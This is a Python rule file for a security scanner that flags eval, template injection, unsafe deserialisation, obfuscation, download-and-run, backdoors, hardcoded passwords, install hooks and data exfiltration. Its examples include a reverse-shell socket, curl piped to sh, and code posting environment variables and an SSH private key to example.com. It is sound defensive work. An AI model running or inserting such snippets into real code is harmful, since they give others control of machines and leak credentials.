"""Python: text or data becomes code, is hidden, or leaves a way in."""

from __future__ import annotations

from shipui.gates.base import Example, Rule
from shipui.model.findings import Severity


def _examples(*texts: str, path: str = "app/tasks.py") -> tuple[Example, ...]:
    return tuple(Example(path, text) for text in texts)


_FLASK = "from flask import request\n"

RULES = (
    Rule(
        "python-code-execution",
        "security",
        "Text is run as code",
        "Whoever controls the text runs anything that they like inside this program.",
        "Use ast.literal_eval for data, a table of functions for choices.",
        Severity.MEDIUM,
        "CWE-95",
        _examples("def compute(text):\n    return eval(text)", _FLASK + "def view():\n    exec(request.data)"),
        _examples(
            "import ast\ndef compute(text):\n    return ast.literal_eval(text)",
            "eval('1 + 1')",
            "def view(model):\n    model.eval()",
        ),
    ),
    Rule(
        "python-template-injection",
        "security",
        "A template is put together from text",
        "Template expressions in the value run as code on the server.",
        "Keep the template constant and hand the values over as variables.",
        Severity.HIGH,
        "CWE-1336",
        _examples(
            "from flask import render_template_string, request\ndef view():\n    return render_template_string('Hello ' + request.args['name'])"
        ),
        _examples(
            "from flask import render_template_string, request\ndef view():\n    return render_template_string('Hello {{ name }}', name=request.args['name'])"
        ),
    ),
    Rule(
        "python-dynamic-import",
        "security",
        "Something from outside chooses a module",
        "Importing runs the module's code, whichever it is.",
        "Choose from a table of modules by name.",
        Severity.MEDIUM,
        "CWE-470",
        _examples(_FLASK + "import importlib\ndef view():\n    return importlib.import_module(request.args['plugin'])"),
        _examples("import importlib\ndef load(name):\n    return importlib.import_module('plugins.' + name)"),
    ),
    Rule(
        "python-unsafe-deserialisation",
        "security",
        "Reading this format runs code",
        "Whoever wrote the data decides what is run when it is read.",
        "Use JSON, or yaml.safe_load; keep pickle for what only this program writes.",
        Severity.MEDIUM,
        "CWE-502",
        _examples(
            "import pickle\ndef load(data):\n    return pickle.loads(data)",
            "import yaml\ndef load(text):\n    return yaml.load(text, Loader=yaml.Loader)",
        ),
        _examples(
            "import yaml\ndef load(text):\n    return yaml.safe_load(text)",
            "import json\ndef load(text):\n    return json.loads(text)",
            "import yaml\ndef load(text):\n    return yaml.load(text, Loader=yaml.SafeLoader)",
        ),
    ),
    Rule(
        "python-obfuscated-code",
        "security",
        "Code that hides what it does",
        "Nobody who reads this can tell what it does; that is usually the purpose.",
        "Write the code plainly. If it is data, do not run it.",
        Severity.HIGH,
        "CWE-506",
        _examples(
            "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "import os\ngetattr(os, 'sys' + 'tem')('id')"
        ),
        _examples("import base64\nICON = base64.b64decode('iVBORw0KGgo=')", "import os\ngetattr(os, 'getcwd')()"),
    ),
    Rule(
        "python-download-and-run",
        "security",
        "Something is fetched and run",
        "Whoever holds the address, today or later, runs anything on this machine.",
        "Fetch a fixed version, compare its checksum, and keep what is run in the repository or in an image.",
        Severity.HIGH,
        "CWE-494",
        _examples(
            "import requests\nexec(requests.get('https://example.com/a.py').text)",
            "import os\nos.system('curl https://example.com/a.sh | sh')",
        ),
        _examples(
            "import requests\ndata = requests.get('https://example.com/a.json').json()",
            "import os\nos.system('curl -O https://example.com/a.tar.gz')",
        ),
    ),
    Rule(
        "python-backdoor",
        "security",
        "A way in, or a way to stay",
        "This gives somebody elsewhere control of the machine, or keeps it after a restart.",
        "Take it out, and find out how it got here.",
        Severity.HIGH,
        "CWE-506",
        _examples(
            "import os, socket\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\nos.dup2(s.fileno(), 0)",
            "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as file:\n    file.write('x')",
        ),
        _examples("import os\nos.dup2(1, 2)", "with open('/srv/app/notes.txt', 'a') as file:\n    file.write('x')"),
    ),
    Rule(
        "python-hidden-password",
        "security",
        "A fixed password lets people in",
        "Everybody who can read this code can use it, and nobody can change it.",
        "Keep passwords as salted hashes in the database, tokens in the environment.",
        Severity.HIGH,
        "CWE-798",
        _examples("def login(name, password):\n    if password == 'Winter-2024!':\n        return True"),
        _examples(
            "def login(name, password):\n    if password == '':\n        return False",
            "def kind(token):\n    return token == '('",
        ),
    ),
    Rule(
        "python-install-hook",
        "security",
        "Installing the package runs this",
        "Whoever installs the package runs it, before anybody looked at it.",
        "Build in the build step; fetch nothing and start nothing when the package is installed.",
        Severity.HIGH,
        "CWE-506",
        _examples(
            "import setuptools, urllib.request\nurllib.request.urlopen('https://example.com/ping')\nsetuptools.setup()",
            path="setup.py",
        ),
        _examples("import setuptools\nsetuptools.setup(name='x')", path="setup.py"),
    ),
    Rule(
        "python-data-exfiltration",
        "security",
        "Secrets of the machine are sent away",
        "Passwords and keys of this machine reach somebody who has no business with them.",
        "Send only what the receiver needs, by name.",
        Severity.HIGH,
        "CWE-200",
        _examples(
            "import os, requests\nrequests.post('https://example.com/c', json=dict(os.environ))",
            "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://example.com/c', data=key)",
        ),
        _examples(
            "import os, requests\nrequests.post('https://api.example.com/v1', headers={'Authorization': os.environ['API_TOKEN']}, json={'a': 1})",
            "import os, requests\nrequests.get('https://api.example.com/v1', timeout=float(os.environ['TIMEOUT']))",
        ),
    ),
)
